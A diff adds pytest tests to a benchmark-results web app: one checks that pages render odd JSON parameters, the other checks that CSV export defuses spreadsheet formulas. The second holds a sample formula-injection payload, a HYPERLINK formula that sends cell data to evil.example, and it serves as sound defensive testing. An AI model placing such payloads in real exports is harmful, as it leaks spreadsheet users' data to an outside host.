@@ -124,3 +124,62 @@ def test_plotly_js_is_served_by_the_app(client: TestClient) -> None:
     assert bundle.status_code == 200
     assert bundle.headers["content-encoding"] == "gzip"
     assert "plotly" in bundle.text[:2000].lower()
+
+
+ODD_PARAMS = {"shape": [1, 3, 224, 224], "nested": {"a": [1, {"b": None}]}, "flag": True}
+ODD_KERNELS = [
+    {"top_kernels": "not a list"},
+    {"top_kernels": [1, "x", None, {"name": "k", "self_time_us": "fast", "calls": [1]}]},
+    {"top_kernels": [{"name": ["odd"], "self_time_us": 1e300, "calls": 2}]},
+    {"nothing": {"we": ["know"]}},
+]
+
+
+def test_every_page_renders_whatever_ingestion_accepts(
+    client: TestClient, ingest_headers: dict[str, str]
+) -> None:
+    """List-valued params and any JSON in extra are stored, so every page must show them."""
+    ids = []
+    for index in range(2):
+        rows = [result(model="odd", value=1.0 + index, params=ODD_PARAMS, extra={"x": [None]})]
+        rows += [
+            result(model=f"odd{n}", metric="kernel_count", value=3.0, extra=extra)
+            for n, extra in enumerate(ODD_KERNELS)
+        ]
+        payload = run_payload(f"odd-{index}", rows, index=index, extra={"ci": [{"odd": True}]})
+        posted = client.post("/api/v1/runs", json=payload, headers=ingest_headers)
+        assert posted.status_code == 201, posted.text
+        ids.append(posted.json()["id"])
+    run_page = client.get(f"/runs/{ids[1]}")
+    assert run_page.status_code == 200
+    assert "224" in run_page.text  # the params are shown
+    for path in (
+        "/",
+        "/alerts",
+        "/series?model=odd&precision=bf16&config=cudagraphs",
+        f"/compare?kind=runs&base_run={ids[0]}&new_run={ids[1]}",
+        f"/compare?kind=runs&base_run={ids[0]}&new_run={ids[1]}&format=csv",
+    ):
+        assert client.get(path).status_code == 200, path
+
+
+def test_the_csv_export_neutralises_formula_cells(
+    client: TestClient, ingest_headers: dict[str, str]
+) -> None:
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    ids = []
+    for index in range(2):
+        rows = [result(model=evil, value=1.0), result(model="-2+3", value=2.0 + index)]
+        posted = client.post(
+            "/api/v1/runs",
+            json=run_payload(f"csv-{index}", rows, index=index),
+            headers=ingest_headers,
+        )
+        ids.append(posted.json()["id"])
+    download = client.get(
+        "/compare", params={"kind": "runs", "base_run": str(ids[0]), "format": "csv"}
+    )
+    table = list(csv.DictReader(io.StringIO(download.text)))
+    assert sorted(r["model"] for r in table) == ["'-2+3", "'" + evil]
+    minus = next(r for r in table if r["model"] == "'-2+3")
+    assert float(minus[f"change run {ids[1]}"]) == pytest.approx(0.5)  # numbers stay numbers
